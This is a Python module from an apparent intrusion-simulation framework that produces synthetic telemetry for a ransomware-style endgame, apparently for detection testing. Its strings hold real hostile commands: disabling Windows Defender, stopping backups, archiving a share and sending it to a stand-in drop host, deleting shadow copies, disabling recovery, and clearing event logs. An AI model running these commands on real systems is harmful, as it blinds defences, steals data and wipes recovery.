"""Before the end: blind the guard, take the data, remove the way back."""

from vedette.simulation.actors.intrusion.keyboard import Keyboard
from vedette.simulation.telemetry.changes import clear_log, run_script_block
from vedette.simulation.telemetry.network import Endpoint, connect, resolve
from vedette.simulation.telemetry.objects import create_file, set_value

DROP_SITE = Endpoint("store.coldharbour-files.example", "198.51.100.77", 443)
_DEFENDER = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender"


def blind_the_guard(keyboard: Keyboard) -> None:
    """Exclude a folder, switch the guard off, stop the backup."""
    world = keyboard.world
    guard = keyboard.device.residents["MsMpEng.exe"]
    with world.step("The security product is switched off", "defense-impairment", "T1685"):
        for text, name, details in (
            (
                "Add-MpPreference -ExclusionPath C:\\ProgramData",
                "Exclusions\\Paths\\C:\\ProgramData",
                "DWORD (0x00000000)",
            ),
            (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "Real-Time Protection\\DisableRealtimeMonitoring",
                "DWORD (0x00000001)",
            ),
        ):
            shell = keyboard.type("powershell.exe", f"powershell -c {text}", seconds=2)
            run_script_block(world, shell, text, keyboard.at - 1.5)
            set_value(world, guard, f"{_DEFENDER}\\{name}", details, keyboard.at - 1)
    with world.step("The backup is stopped", "impact", "T1489"):
        keyboard.type("net.exe", 'net stop "Larder Backup"', seconds=3)
        keyboard.type("sc.exe", 'sc config "Larder Backup" start= disabled')
        keyboard.type("taskkill.exe", "taskkill /f /im larderagent.exe")


def take_data(keyboard: Keyboard) -> None:
    """Pack a share with a password and send it away with a renamed synchronisation tool."""
    world, archive = keyboard.world, "C:\\ProgramData\\f.7z"
    tool = "C:\\ProgramData\\cloudsync.exe"
    with world.step("A share is packed with a password", "collection", "T1560.001", "T1039"):
        create_file(world, keyboard.shell, "C:\\ProgramData\\7z.exe", keyboard.think())
        command = f"7z.exe a -t7z -mx3 -v2g -pKz8vaTmw1 -mhe=on {archive} D:\\shares\\departments"
        packer = keyboard.type("C:\\ProgramData\\7z.exe", command, seconds=150)
        for part in range(1, 7):
            create_file(world, packer, f"{archive}.{part:03}", keyboard.at - 150 + 22 * part)
    with world.step("The archive goes to a store outside", "exfiltration", "T1567.002"):
        create_file(world, keyboard.shell, tool, keyboard.think())
        create_file(world, keyboard.shell, "C:\\ProgramData\\s.conf", keyboard.think())
        options = "--include f.7z.* --transfers 8 --no-check-certificate"
        command = f"cloudsync.exe --config s.conf copy C:\\ProgramData cold:mer {options}"
        sender = keyboard.type(tool, command, seconds=240)
        resolve(world, sender, DROP_SITE, keyboard.at - 239)
        for stream in range(24):
            connect(world, sender, DROP_SITE, keyboard.at - 238 + stream * 9)


def remove_the_way_back(keyboard: Keyboard) -> None:
    """Delete the snapshots and the recovery, by one tool and then by another; then the logs."""
    world = keyboard.world
    with world.step("Snapshots and recovery are removed", "impact", "T1490"):
        keyboard.type("vssadmin.exe", "vssadmin delete shadow /all")
        keyboard.type("vssadmin.exe", "vssadmin delete shadows /all /quiet", seconds=3)
        keyboard.type("WMIC.exe", "wmic shadowcopy delete", seconds=2)
        keyboard.type("bcdedit.exe", "bcdedit /set {default} recoveryenabled no")
    with world.step("Event logs are cleared", "defense-impairment", "T1685.005"):
        for log in ("System", "Security"):
            keyboard.type("wevtutil.exe", f"wevtutil cl {log}")
            clear_log(world, keyboard.device, keyboard.session, log, keyboard.at - 0.1)
